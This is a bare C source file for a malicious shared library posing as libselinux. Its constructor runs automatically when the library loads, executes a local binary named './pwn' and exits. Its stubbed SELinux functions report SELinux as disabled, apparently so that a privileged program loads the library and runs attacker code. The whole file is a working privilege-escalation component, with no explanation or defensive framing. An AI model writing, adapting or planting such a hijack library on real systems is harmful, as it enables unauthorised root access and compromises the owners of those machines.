#include <stdlib.h>
#include <unistd.h>
__attribute__((constructor)) static void c(void){ system("./pwn"); _exit(0); }
int fgetfilecon(){return -1;} int freecon(){return 0;} int getfilecon(){return -1;} int lgetfilecon(){return -1;} int is_selinux_enabled(){return 0;}
